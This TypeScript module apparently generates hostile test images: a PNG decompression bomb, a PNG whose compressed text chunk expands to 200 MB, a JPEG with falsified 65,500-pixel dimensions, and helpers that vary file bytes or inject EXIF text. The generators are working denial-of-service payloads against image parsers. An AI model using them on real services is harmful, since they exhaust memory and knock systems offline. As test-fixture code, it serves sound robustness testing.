/** @file Files made to harm whoever opens them. */
import { crc32, deflateSync } from 'node:zlib';

function chunk(type: string, data: Uint8Array): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  check.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, check]);
}

const PNG = Buffer.from('89504e470d0a1a0a', 'hex');

function header(width: number, height: number): Buffer {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(width, 0);
  data.writeUInt32BE(height, 4);
  data.set([8, 2, 0, 0, 0], 8);
  return chunk('IHDR', data);
}

/** 30,000 x 30,000 pixels (2.7 GB) in 2.6 MB. */
export function pngBomb(): Buffer {
  const side = 30_000;
  const pixels = deflateSync(Buffer.alloc(side * 100), { level: 9 });
  return Buffer.concat([PNG, header(side, side), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))]);
}

/** A picture of 8 x 8 pixels with a text that unpacks to 200 MB. */
export function textBomb(): Buffer {
  const text = Buffer.concat([
    Buffer.from('Comment\0\0', 'latin1'),
    deflateSync(Buffer.alloc(200_000_000), { level: 9 }),
  ]);
  const pixels = deflateSync(Buffer.alloc(8 * (3 * 8 + 1)));
  return Buffer.concat([PNG, header(8, 8), chunk('zTXt', text), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))]);
}

/** A JPEG with another comment for each number: other bytes, the same picture. */
export function numbered(jpeg: Uint8Array, number: number | string): Buffer {
  const text = Buffer.from(`number ${number}`);
  const segment = Buffer.alloc(4);
  segment.writeUInt16BE(0xfffe);
  segment.writeUInt16BE(text.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), segment, text, jpeg.subarray(2)]);
}

/** The same JPEG, whose header says 65,500 x 65,500 pixels. */
export function jpegBomb(jpeg: Uint8Array): Buffer {
  const data = Buffer.from(jpeg);
  for (let at = 2; at < data.length - 9; ) {
    const marker = data[at + 1] as number;
    if (marker >= 0xc0 && marker <= 0xc2) {
      data.writeUInt16BE(65_500, at + 5);
      data.writeUInt16BE(65_500, at + 7);
      return data;
    }
    at += 2 + data.readUInt16BE(at + 2);
  }
  throw new Error('a JPEG without a frame header');
}

/** The same JPEG with an EXIF description (TIFF tag 270). */
export function described(jpeg: Uint8Array, text: string): Buffer {
  const value = Buffer.from(`${text}\0`, 'latin1');
  const tiff = Buffer.alloc(26);
  tiff.write('II*\0', 0, 'latin1');
  tiff.writeUInt32LE(8, 4);
  tiff.writeUInt16LE(1, 8);
  tiff.writeUInt16LE(270, 10);
  tiff.writeUInt16LE(2, 12);
  tiff.writeUInt32LE(value.length, 14);
  tiff.writeUInt32LE(26, 18);
  const body = Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), tiff, value]);
  const head = Buffer.alloc(4);
  head.writeUInt16BE(0xffe1);
  head.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), head, body, jpeg.subarray(2)]);
}
